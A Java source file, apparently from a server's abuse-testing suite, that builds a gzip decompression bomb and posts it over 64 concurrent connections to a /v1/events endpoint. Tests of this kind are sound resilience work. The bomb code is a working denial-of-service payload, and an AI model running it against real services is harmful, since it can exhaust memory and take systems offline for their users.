package io.quipu.testing.abuse;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.zip.GZIPOutputStream;

/** Small bodies that say they are gzip, and would be gigabytes. */
final class GzipBombs implements Attack {
  private static final int CONNECTIONS = 64;
  private static final int MEBIBYTE = 1024 * 1024;
  private static final int BOMB_MEBIBYTES = 1024;

  @Override
  public String name() {
    return "gzip bombs";
  }

  @Override
  public String run(Target target) throws IOException {
    byte[] bomb = bomb();
    String gzip = "Content-Encoding: gzip\r\n";
    byte[] head = Requests.postHead("/v1/events", "application/json", bomb.length, gzip);
    Conduct conduct =
        Conduct.opening(Requests.joined(head, bomb)).leavingAfter(Duration.ofSeconds(2));
    return "%d KiB that would be 1 GiB: ".formatted(bomb.length / 1024)
        + Crowd.gather(target, conduct, CONNECTIONS, 4, target.scale().attack());
  }

  private static byte[] bomb() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] spaces = " ".repeat(MEBIBYTE).getBytes(US_ASCII);
    try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
      for (int i = 0; i < BOMB_MEBIBYTES; i++) {
        gzip.write(spaces);
      }
    }
    return bytes.toByteArray();
  }
}
